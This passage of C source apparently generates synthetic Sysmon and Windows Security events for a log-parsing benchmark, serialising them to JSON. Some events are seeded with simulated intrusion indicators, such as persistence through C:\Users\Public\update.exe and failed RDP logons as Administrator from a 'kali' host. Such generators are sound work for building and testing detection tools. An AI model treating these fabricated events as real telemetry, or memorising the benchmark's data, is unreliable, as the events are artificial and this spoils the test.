static int registry(struct vg_event *ev, struct rng *r, uint64_t i, bool bad)
{
    bool set = rn(r, 3) != 0;
    if (sys(ev, r, SYSMON, SYSMON_P, set ? 13 : 12, i)) return VG_ENOMEM;
    const struct proc *pp = &PICK(r, benign);
    const char *user = PICK(r, users);
    S("RuleName", "-");
    S("EventType", set ? "SetValue" : "CreateKey");
    S("UtcTime", "2025-01-01 12:00:00.000");
    S("ProcessGuid", guid(ev, r));
    I("ProcessId", 1000 + rn(r, 60000));
    S("Image", bad ? (rn(r, 2) ? "C:\\Windows\\System32\\reg.exe" : "C:\\Users\\Public\\update.exe") : tmpl(ev, r, pp->image, short_user(user)));
    S("TargetObject", bad ? PICK(r, reg_evil) : PICK(r, reg_benign));
    if (set) S("Details", bad ? (rn(r, 2) ? "DWORD (0x00000001)" : "C:\\Users\\Public\\update.exe") : fmt(ev, "DWORD (0x%08x)", (unsigned)rn(r, 1000)));
    S("User", user);
    return 0;
}

static int image_load(struct vg_event *ev, struct rng *r, uint64_t i, bool bad)
{
    if (sys(ev, r, SYSMON, SYSMON_P, 7, i)) return VG_ENOMEM;
    const struct proc *pp = &PICK(r, benign);
    const char *user = PICK(r, users);
    const char *dll = bad ? PICK(r, dlls_evil) : PICK(r, dlls_benign);
    const char *base = strrchr(dll, '\\') + 1;
    S("RuleName", "-");
    S("UtcTime", "2025-01-01 12:00:00.000");
    S("ProcessGuid", guid(ev, r));
    I("ProcessId", 1000 + rn(r, 60000));
    S("Image", bad ? evil[rn(r, (uint32_t)N(evil))].image : tmpl(ev, r, pp->image, short_user(user)));
    S("ImageLoaded", dll);
    S("FileVersion", "10.0.19041.3636 (WinBuild.160101.0800)");
    S("Description", "Windows NT BASE API Client DLL");
    S("Product", "Microsoft\xc2\xae Windows\xc2\xae Operating System");
    S("Company", "Microsoft Corporation");
    S("OriginalFileName", base);
    S("Hashes", hashes(ev, r));
    S("Signed", "true");
    S("Signature", "Microsoft Windows");
    S("SignatureStatus", "Valid");
    S("User", user);
    return 0;
}

static int dns(struct vg_event *ev, struct rng *r, uint64_t i, bool bad)
{
    if (sys(ev, r, SYSMON, SYSMON_P, 22, i)) return VG_ENOMEM;
    const struct proc *pp = &PICK(r, benign);
    const char *user = PICK(r, users);
    S("RuleName", "-");
    S("UtcTime", "2025-01-01 12:00:00.000");
    S("ProcessGuid", guid(ev, r));
    I("ProcessId", 1000 + rn(r, 60000));
    S("QueryName", bad ? PICK(r, dns_evil) : PICK(r, dns_benign));
    S("QueryStatus", "0");
    S("QueryResults", fmt(ev, "::ffff:%u.%u.%u.%u;", 13 + rn(r, 190), rn(r, 250), rn(r, 250), 1 + rn(r, 250)));
    S("Image", bad ? "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" : tmpl(ev, r, pp->image, short_user(user)));
    S("User", user);
    return 0;
}

static int ps_script(struct vg_event *ev, struct rng *r, uint64_t i, bool bad)
{
    if (sys(ev, r, "Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104, i)) return VG_ENOMEM;
    I("MessageNumber", 1);
    I("MessageTotal", 1);
    S("ScriptBlockText", bad ? PICK(r, ps_evil) : PICK(r, ps_benign));
    S("ScriptBlockId", guid(ev, r));
    S("Path", bad ? "" : "C:\\Scripts\\maintenance.ps1");
    return 0;
}

static int logon(struct vg_event *ev, struct rng *r, uint64_t i, bool bad)
{
    bool fail = bad || rn(r, 10) == 0;
    if (sys(ev, r, "Security", "Microsoft-Windows-Security-Auditing", fail ? 4625 : 4624, i)) return VG_ENOMEM;
    const char *user = PICK(r, users);
    static const int types[] = {2, 3, 3, 3, 5, 7, 10, 11};
    int lt = bad ? 10 : types[rn(r, (uint32_t)N(types))];
    S("SubjectUserSid", "S-1-5-18");
    S("SubjectUserName", "SRV-DC01$");
    S("SubjectDomainName", "CORP");
    S("SubjectLogonId", "0x3e7");
    S("TargetUserSid", "S-1-5-21-1004336348-1177238915-682003330-1104");
    S("TargetUserName", bad ? "Administrator" : short_user(user));
    S("TargetDomainName", "CORP");
    if (!fail) S("TargetLogonId", fmt(ev, "0x%x", (unsigned)rn(r, 0xffffff)));
    I("LogonType", lt);
    S("LogonProcessName", lt == 3 ? "NtLmSsp " : "User32 ");
    S("AuthenticationPackageName", lt == 3 ? "NTLM" : "Negotiate");
    S("WorkstationName", bad ? "kali" : "WS-FIN-0142");
    S("LogonGuid", "{00000000-0000-0000-0000-000000000000}");
    S("KeyLength", "0");
    S("ProcessName", lt == 3 ? "-" : "C:\\Windows\\System32\\svchost.exe");
    S("IpAddress", bad ? fmt(ev, "185.220.101.%u", rn(r, 250)) : fmt(ev, "10.20.%u.%u", rn(r, 8), 10 + rn(r, 200)));
    S("IpPort", fmt(ev, "%u", 49152 + rn(r, 16000)));
    if (fail) {
        S("Status", "0xc000006d");
        S("SubStatus", bad ? "0xc000006a" : "0xc0000064");
        S("FailureReason", "%%2313");
    }
    return 0;
}

int vg_gen_sysmon_event(uint64_t seed, uint64_t i, struct vg_event *ev)
{
    struct rng r = {seed * 0x9e3779b97f4a7c15ull ^ (i + 1) * 0xd1b54a32d192ed03ull};
    rnext(&r);
    bool bad = rn(&r, 10000) < VG_GEN_EVIL_PER_10K;
    uint32_t k = rn(&r, 100);
    if (k < 30) return proc_create(ev, &r, i, bad);
    if (k < 45) return network(ev, &r, i, bad);
    if (k < 57) return file_create(ev, &r, i, bad);
    if (k < 72) return registry(ev, &r, i, bad);
    if (k < 84) return image_load(ev, &r, i, bad);
    if (k < 92) return dns(ev, &r, i, bad);
    if (k < 95) return ps_script(ev, &r, i, bad);
    if (k < 98) return logon(ev, &r, i, bad);
    return security_4688(ev, &r, i, bad);
}

/* ---- JSON lines (decode + match benchmark) ---- */
#define ADDLIT(o, lit) vg_buf_add((o), lit, sizeof(lit) - 1)
static int json_str(struct vg_buf *o, const char *s, size_t n)
{
    int rc = vg_buf_addc(o, '"');
    for (size_t i = 0; i < n && rc == 0; i++) {
        unsigned char c = (unsigned char)s[i];
        if (c == '"' || c == '\\') rc = vg_buf_addc(o, '\\') || vg_buf_addc(o, (char)c);
        else if (c < 0x20) rc = vg_buf_addf(o, "\\u%04x", c);
        else rc = vg_buf_addc(o, (char)c);
    }
    return rc || vg_buf_addc(o, '"') ? VG_ENOMEM : 0;
}

static int json_val(struct vg_buf *o, const struct vg_value *v)
{
    char tb[64];
    size_t n;
    if (v->type == VG_V_INT) return vg_buf_addf(o, "%lld", (long long)v->u.i) ? VG_ENOMEM : 0;
    const char *t = vg_value_text(v, tb, sizeof tb, &n);
    return json_str(o, t ? t : "", t ? n : 0);
}

static bool is_system(const char *name)
{
    static const char *const sysf[] = {"Channel", "EventID", "Computer", "Provider_Name", "EventRecordID"};
    for (size_t i = 0; i < sizeof sysf / sizeof *sysf; i++)
        if (strcmp(name, sysf[i]) == 0) return true;
    return false;
}

int vg_gen_sysmon_json(const struct vg_event *ev, struct vg_buf *out)
{
    char ts[64];
    size_t tl = vg_time_format(ev->ts, ts, sizeof ts, 6);
    int rc = ADDLIT(out, "{\"Event\":{\"System\":{\"TimeCreated\":{\"#attributes\":{\"SystemTime\":");
    if (rc == 0) rc = json_str(out, ts, tl);
    if (rc == 0) rc = ADDLIT(out, "}}");
    for (int pass = 0; pass < 2 && rc == 0; pass++) {
        if (pass == 1) rc = ADDLIT(out, "},\"EventData\":{");
        bool first = true;
        for (uint32_t i = 0; i < ev->nfields && rc == 0; i++) {
            size_t nl;
            const char *name = vg_fid_name(ev->fields[i].name, &nl);
            if (!name || is_system(name) != (pass == 0)) continue;
            if (pass == 0 && strcmp(name, "Provider_Name") == 0) {
                rc = ADDLIT(out, ",\"Provider\":{\"#attributes\":{\"Name\":");
                if (rc == 0) rc = json_val(out, &ev->fields[i].v);
                if (rc == 0) rc = ADDLIT(out, "}}");
                continue;
            }
            if ((pass == 0 || !first) && vg_buf_addc(out, ',') != 0) return VG_ENOMEM;
            first = false;
            if ((rc = json_str(out, name, nl)) == 0 && (rc = vg_buf_addc(out, ':') ? VG_ENOMEM : 0) == 0)
                rc = json_val(out, &ev->fields[i].v);
        }
    }
    if (rc == 0) rc = ADDLIT(out, "}}}\n");
    return rc ? VG_ENOMEM : 0;
}
